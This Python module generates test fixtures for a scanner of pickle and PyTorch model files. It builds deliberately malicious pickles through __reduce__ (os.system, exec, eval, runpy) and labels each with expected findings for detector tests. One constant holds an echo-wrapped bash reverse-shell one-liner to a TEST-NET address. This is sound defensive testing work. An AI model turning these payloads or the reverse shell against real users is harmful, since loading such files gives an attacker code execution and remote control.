"""Pickle and PyTorch-style ZIP fixtures, emitted by the real pickler.

Payload objects route through ``pickle.dumps`` via ``__reduce__``, so the
opcode streams are exactly what attacker-controlled serialization would
produce. Nothing is executed at generation time, commands are echo-only,
and the one endpoint-looking string uses a TEST-NET address. Each pickle
(including ZIP members) gets a reference disassembly dump derived from
``pickletools``, the oracle files for analyzer tests.
"""

import io
import json
import os
import pickle
import pickletools
import random
import runpy
import zipfile
from pathlib import Path
from typing import List, Tuple

from fixturegen.manifest import AuxFile, FixtureEntry, FixtureManifest

MARKER_CMD = "echo pickle can run code"
REVSHELL_CMD = "echo poc: bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"
RUNPY_SCRIPT = "import os\nos.system('echo pickle can run code')\n"
EXEC_SRC = "print('pickle can run code')"
EVAL_SRC = "repr('pickle can run code')"


class ReducePayload:
    """Pickles as a call to func(*args); the call happens only on load."""

    def __init__(self, func, args):
        self.func = func
        self.args = args

    def __reduce__(self):
        return (self.func, self.args)


class NewArgsExThing:
    """Pickles through NEWOBJ_EX (protocol 4 keyword construction)."""

    def __getnewargs_ex__(self):
        return ((1,), {"flag": True})


def benign_value(rng: random.Random, depth: int = 0):
    # containers of scalars only: every kind here pickles without
    # class-reference opcodes at any protocol
    kinds = ["int", "float", "str", "bool", "none"]
    if depth < 2:
        kinds += ["list", "tuple", "dict"]
    kind = rng.choice(kinds)
    if kind == "int":
        return rng.randint(-10_000, 10_000)
    if kind == "float":
        return round(rng.uniform(-1000.0, 1000.0), 6)
    if kind == "str":
        return "".join(rng.choice("abcdefgh ") for _ in range(rng.randint(0, 12)))
    if kind == "bool":
        return rng.random() < 0.5
    if kind == "none":
        return None
    size = rng.randint(0, 4)
    if kind == "list":
        return [benign_value(rng, depth + 1) for _ in range(size)]
    if kind == "tuple":
        return tuple(benign_value(rng, depth + 1) for _ in range(size))
    return {f"k{i}": benign_value(rng, depth + 1) for i in range(size)}


def reference_tokens(data: bytes) -> list:
    return [[pos, info.name, repr(arg)] for info, arg, pos in pickletools.genops(data)]


def zip_bytes(members: List[Tuple[str, bytes]]) -> bytes:
    """Stored, timestamp-zeroed archive so regeneration is byte-stable."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_STORED
            zf.writestr(info, data)
    return buf.getvalue()


def _dump_oracle(outdir: Path, oracle_rel: str, pickle_rel: str, data: bytes) -> AuxFile:
    path = outdir / oracle_rel
    path.parent.mkdir(parents=True, exist_ok=True)
    doc = {"pickle": pickle_rel, "tokens": reference_tokens(data)}
    path.write_text(json.dumps(doc, indent=1) + "\n")
    return AuxFile(path=oracle_rel, role="disasm-oracle", fixture=pickle_rel)


def _write_repo_file(outdir: Path, repo: str, name: str, data: bytes) -> str:
    repo_dir = outdir / repo
    repo_dir.mkdir(parents=True, exist_ok=True)
    (repo_dir / name).write_bytes(data)
    return f"{repo}/{name}"


def gen_pickle_payloads(outdir: Path, seed: int) -> FixtureManifest:
    outdir = Path(outdir)
    rng = random.Random(seed)
    frag = FixtureManifest(seed=seed)

    def add_pickle(repo: str, data: bytes, entry: FixtureEntry) -> None:
        rel = _write_repo_file(outdir, repo, "model.pkl", data)
        entry.path = rel
        frag.fixtures.append(entry)
        frag.aux_files.append(_dump_oracle(outdir, f"oracles/{repo}.tokens.json", rel, data))

    # benign nested containers, one per protocol the scanner must parse
    for protocol in (0, 2, 4, 5):
        data = pickle.dumps({"weights": benign_value(rng), "meta": benign_value(rng)}, protocol)
        add_pickle(
            f"pickle-benign-p{protocol}",
            data,
            FixtureEntry(
                path="",
                repo_kind="Model",
                label="Benign",
                expected_verdict="Clean",
                notes=f"nested containers, protocol {protocol}",
            ),
        )

    payload_cases = [
        (
            "pickle-os-system-p0",
            0,
            ReducePayload(os.system, (MARKER_CMD,)),
            FixtureEntry(
                path="",
                repo_kind="Model",
                label="Malicious",
                expected_findings=["UnsafeOpcode", "SuspiciousSnippet"],
                expected_behavior="ProofOfConcept",
                expected_verdict="Malicious",
                payload_api="posix.system",
                payload_arg=MARKER_CMD,
                notes="os.system pickles as posix.system on this platform",
            ),
        ),
        (
            "pickle-reverse-shell-p2",
            2,
            ReducePayload(os.system, (REVSHELL_CMD,)),
            FixtureEntry(
                path="",
                repo_kind="Model",
                label="Malicious",
                expected_findings=["UnsafeOpcode", "SuspiciousSnippet", "RuleMatch"],
                expected_behavior="RemoteControl",
                expected_verdict="Malicious",
                payload_api="posix.system",
                payload_arg=REVSHELL_CMD,
                notes="echo-wrapped reverse-shell one-liner, TEST-NET address",
            ),
        ),
        (
            "pickle-exec-p4",
            4,
            ReducePayload(exec, (EXEC_SRC,)),
            FixtureEntry(
                path="",
                repo_kind="Model",
                label="Malicious",
                expected_findings=["UnsafeOpcode", "SuspiciousSnippet"],
                expected_behavior="ProofOfConcept",
                expected_verdict="Malicious",
                payload_api="builtins.exec",
                payload_arg=EXEC_SRC,
            ),
        ),
        (
            "pickle-eval-p5",
            5,
            ReducePayload(eval, (EVAL_SRC,)),
            FixtureEntry(
                path="",
                repo_kind="Model",
                label="Malicious",
                expected_findings=["UnsafeOpcode", "SuspiciousSnippet"],
                expected_behavior="ProofOfConcept",
                expected_verdict="Malicious",
                payload_api="builtins.eval",
                payload_arg=EVAL_SRC,
            ),
        ),
        (
            "pickle-runpy-p4",
            4,
            ReducePayload(runpy._run_code, (RUNPY_SCRIPT, {})),
            FixtureEntry(
                path="",
                repo_kind="Model",
                label="Malicious",
                expected_findings=["UnsafeOpcode", "SuspiciousSnippet", "UnsafeApi"],
                expected_behavior="ProofOfConcept",
                expected_verdict="Malicious",
                payload_api="runpy._run_code",
                payload_arg=RUNPY_SCRIPT,
                notes="multi-line script embedded in the pickle",
            ),
        ),
    ]
    for repo, protocol, payload, entry in payload_cases:
        add_pickle(repo, pickle.dumps(payload, protocol), entry)

    add_pickle(
        "pickle-newobj-ex-p4",
        pickle.dumps(NewArgsExThing(), 4),
        FixtureEntry(
            path="",
            repo_kind="Model",
            label="PoC",
            expected_findings=["UnsafeOpcode"],
            expected_behavior="Unclassified",
            expected_verdict="Suspicious",
            payload_api="fixturegen.pickles.NewArgsExThing",
            notes="keyword construction via NEWOBJ_EX; structural flag only",
        ),
    )

    # PyTorch-style archives: the scanner must reach every .pkl member
    revshell_pkl = pickle.dumps(ReducePayload(os.system, (REVSHELL_CMD,)), 2)
    marker_pkl = pickle.dumps(ReducePayload(os.system, (MARKER_CMD,)), 2)
    benign_pkl = pickle.dumps({"bias": [0.0, 1.0], "name": "fixture"}, 2)

    zip_cases = [
        (
            "torch-reverse-shell",
            [("archive/data.pkl", revshell_pkl), ("archive/version", b"3\n")],
            FixtureEntry(
                path="",
                repo_kind="Model",
                label="Malicious",
                expected_findings=["UnsafeOpcode", "SuspiciousSnippet", "RuleMatch"],
                expected_behavior="RemoteControl",
                expected_verdict="Malicious",
                payload_api="posix.system",
                payload_arg=REVSHELL_CMD,
            ),
        ),
        (
            "torch-two-depths",
            [
                ("archive/data.pkl", marker_pkl),
                ("archive/nested/extra.pkl", benign_pkl),
                ("archive/version", b"3\n"),
            ],
            FixtureEntry(
                path="",
                repo_kind="Model",
                label="Malicious",
                expected_findings=["UnsafeOpcode", "SuspiciousSnippet"],
                expected_behavior="ProofOfConcept",
                expected_verdict="Malicious",
                payload_api="posix.system",
                payload_arg=MARKER_CMD,
                notes="two pickle members at different depths",
            ),
        ),
        (
            "torch-benign",
            [("archive/data.pkl", benign_pkl), ("archive/version", b"3\n")],
            FixtureEntry(
                path="",
                repo_kind="Model",
                label="Benign",
                expected_verdict="Clean",
            ),
        ),
    ]
    for repo, members, entry in zip_cases:
        data = zip_bytes(members)
        rel = _write_repo_file(outdir, repo, "model.pt", data)
        entry.path = rel
        frag.fixtures.append(entry)
        for member, blob in members:
            if member.endswith(".pkl"):
                safe = member.replace("/", "__")
                frag.aux_files.append(
                    _dump_oracle(
                        outdir,
                        f"oracles/{repo}__{safe}.tokens.json",
                        f"{rel}::{member}",
                        blob,
                    )
                )
    return frag
